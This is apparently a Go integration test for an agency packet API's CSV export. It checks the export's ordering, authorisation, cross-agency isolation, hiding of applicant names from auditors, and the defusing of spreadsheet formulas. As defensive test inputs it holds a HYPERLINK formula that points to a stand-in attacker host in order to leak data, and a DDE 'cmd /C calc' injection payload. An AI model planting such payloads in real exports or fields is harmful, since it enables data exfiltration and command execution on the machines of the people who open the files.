package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/getkin/kin-openapi/openapi3filter"

	"tongban/api"
	"tongban/api/apitest"
	"tongban/gateway"
	"tongban/gateway/workday"
)

// getCSV fetches a CSV export and returns its rows by column name, after
// checking the framing every export has: the media type, a download name,
// the byte order mark and the header.
func init() {
	openapi3filter.RegisterBodyDecoder("text/csv", openapi3filter.FileBodyDecoder)
}

func getCSV(t *testing.T, e *apitest.Env, path, who string) ([]map[string]string, string) {
	t.Helper()
	req, _ := http.NewRequest("GET", e.URL+path, nil)
	req.Header.Set("Authorization", "Bearer "+e.Tokens[who])
	resp, err := e.Client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("GET %s as %s: %d %v\n%s", path, who, resp.StatusCode, err, b)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="packets.csv"`) {
		t.Errorf("Content-Disposition %q", cd)
	}
	body, ok := bytes.CutPrefix(b, []byte("\xef\xbb\xbf"))
	if !ok {
		t.Fatalf("no UTF-8 byte order mark: %q", b[:min(len(b), 16)])
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Fatalf("not CSV with a header: %v\n%s", err, body)
	}
	want := []string{"id", "item", "origin", "destination", "status", "submitted", "deadline", "overdue", "last_seq", "updated", "applicant_type", "applicant", "reason"}
	if !slices.Equal(rows[0], want) {
		t.Fatalf("header %q, want %q", rows[0], want)
	}
	var out []map[string]string
	for _, r := range rows[1:] {
		m := map[string]string{}
		for i, k := range rows[0] {
			m[k] = r[i]
		}
		out = append(out, m)
	}
	return out, string(body)
}

// listIDs follows a JSON listing's cursors, two packets a page.
func listIDs(t *testing.T, e *apitest.Env, query, who string) ([]string, map[string]gateway.Packet) {
	t.Helper()
	var ids []string
	byID := map[string]gateway.Packet{}
	cursor := ""
	for {
		code, b := e.Do("GET", "/v1/packets?limit=2&"+query+cursor, who, nil, "")
		var page gateway.Page
		if code != 200 || json.Unmarshal(b, &page) != nil {
			t.Fatalf("list %s: %d %s", query, code, b)
		}
		for _, p := range page.Packets {
			ids = append(ids, p.ID)
			byID[p.ID] = *p
		}
		if page.NextCursor == "" {
			return ids, byID
		}
		cursor = "&cursor=" + page.NextCursor
	}
}

func column(rows []map[string]string, k string) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r[k])
	}
	return out
}

// TestPacketsCSV exports listings as CSV over HTTP: the same packets in the
// same order as the JSON pages, the same authorisation, one agency never
// seeing another's packets, applicant names only for the two agencies of
// a packet, and formulas typed by an applicant or a reviewer defused.
func TestPacketsCSV(t *testing.T) {
	// One packet a page: every export below spans several.
	e := apitest.New(t, apitest.Options{API: func(c *api.Config) { c.ExportPageSize = 1 }})
	checkOpenAPI(t, e) // the format parameter and the CSV answer are documented
	submit := func(origin, dest, name string) string {
		m, files := apitest.CompanySetup()
		m.Destination, m.Applicant["name"] = dest, name
		return e.MustSubmit(origin+":submitter", m, files)
	}
	const formula = `=HYPERLINK("http://evil.example/?leak","点击查看")`
	a := submit("jiashan-window", "qingpu-amr", formula)
	b := submit("wujiang-window", "qingpu-amr", "吴江测试有限公司")
	c := submit("wujiang-window", "qingpu-window", "青浦窗口收件公司")
	d := submit("qingpu-window", "jiashan-window", "嘉善收件公司")
	e.Act("qingpu-amr:reviewer", a, "receive", "", 200)
	const reason = "@SUM(1+1)*cmd|' /C calc'!A0"
	e.Act("qingpu-amr:reviewer", a, "return", reason, 200)

	// The destination's inbox: its two packets, in the JSON listing's order.
	rows, raw := getCSV(t, e, "/v1/packets?box=inbox&format=csv", "qingpu-amr:reviewer")
	wantIDs, packets := listIDs(t, e, "box=inbox", "qingpu-amr:reviewer")
	if got := column(rows, "id"); !slices.Equal(got, wantIDs) || len(got) != 2 || !slices.Contains(got, a) || !slices.Contains(got, b) {
		t.Fatalf("inbox CSV ids %v, JSON listing %v (a=%s b=%s)", got, wantIDs, a, b)
	}
	for _, other := range []string{c, d, "青浦窗口收件公司", "嘉善收件公司"} {
		if strings.Contains(raw, other) {
			t.Fatalf("qingpu-amr's inbox export holds another agency's %q:\n%s", other, raw)
		}
	}
	for _, r := range rows {
		p := packets[r["id"]]
		if r["submitted"] != p.Submitted.In(workday.Shanghai).Format(time.RFC3339) ||
			!regexp.MustCompile(`^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+08:00$`).MatchString(r["deadline"]) ||
			r["item"] != "ENT-SETUP" || r["destination"] != "qingpu-amr" || r["applicant_type"] != "enterprise" || r["status"] != p.Status {
			t.Errorf("row %v does not match the packet %+v", r, p)
		}
		switch r["id"] {
		case a:
			if r["applicant"] != "'"+formula || r["reason"] != "'"+reason || r["status"] != "correction_requested" {
				t.Errorf("formulas not defused: applicant %q reason %q", r["applicant"], r["reason"])
			}
		case b:
			if r["applicant"] != "吴江测试有限公司" || r["origin"] != "wujiang-window" {
				t.Errorf("row of b: %v", r)
			}
		}
	}

	// The origin's outbox: its one packet, with the name.
	rows, _ = getCSV(t, e, "/v1/packets?box=outbox&format=csv", "jiashan-window:submitter")
	if len(rows) != 1 || rows[0]["id"] != a || rows[0]["applicant"] != "'"+formula {
		t.Fatalf("jiashan's outbox export: %v", rows)
	}

	// Auditors: every packet, in the JSON order, and no applicant's name.
	rows, raw = getCSV(t, e, "/v1/packets?box=all&format=csv", "yrd-audit:auditor")
	wantIDs, _ = listIDs(t, e, "box=all", "yrd-audit:auditor")
	if got := column(rows, "id"); !slices.Equal(got, wantIDs) || len(got) != 4 {
		t.Fatalf("auditor CSV ids %v, JSON listing %v", got, wantIDs)
	}
	for _, name := range []string{"HYPERLINK", "吴江测试有限公司", "青浦窗口收件公司", "嘉善收件公司"} {
		if strings.Contains(raw, name) {
			t.Fatalf("the auditor's export holds the applicant name %q", name)
		}
	}
	// The filters are the listing's.
	for query, want := range map[string][]string{
		"origin=wujiang-window":                              {b, c},
		"destination=qingpu-amr&status=correction_requested": {a},
		"item=ENT-SETUP&destination=jiashan-window":          {d},
		"overdue=true": nil,
		"from=" + time.Now().In(workday.Shanghai).AddDate(0, 0, 1).Format(time.DateOnly): nil,
	} {
		rows, _ := getCSV(t, e, "/v1/packets?format=csv&"+query, "yrd-audit:auditor")
		got := column(rows, "id")
		slices.Sort(got)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("%s: ids %v, want %v", query, got, want)
		}
	}

	// Refusals are JSON errors, before any CSV.
	for _, tc := range []struct {
		path, who string
		code      int
		field     string
	}{
		{"/v1/packets?format=xml", "yrd-audit:auditor", 400, "format"},
		{"/v1/packets?format=csv&limit=10", "yrd-audit:auditor", 400, "format"},
		{"/v1/packets?format=csv&cursor=AAAAAAAAAAA", "yrd-audit:auditor", 400, "format"},
		{"/v1/packets?format=csv&status=lost", "yrd-audit:auditor", 400, "status"},
		{"/v1/packets?format=csv&box=all", "jiashan-window:submitter", 403, ""},
		{"/v1/packets?format=csv&box=inbox", "yrd-audit:auditor", 403, ""},
		{"/v1/packets?format=csv", "", 401, ""},
	} {
		code, body := e.Do("GET", tc.path, tc.who, nil, "")
		var er struct {
			Error struct{ Fields map[string]string }
		}
		if code != tc.code || json.Unmarshal(body, &er) != nil || (tc.field != "" && er.Error.Fields[tc.field] == "") {
			t.Errorf("%s as %q: %d %s, want %d naming %q", tc.path, tc.who, code, body, tc.code, tc.field)
		}
	}
}
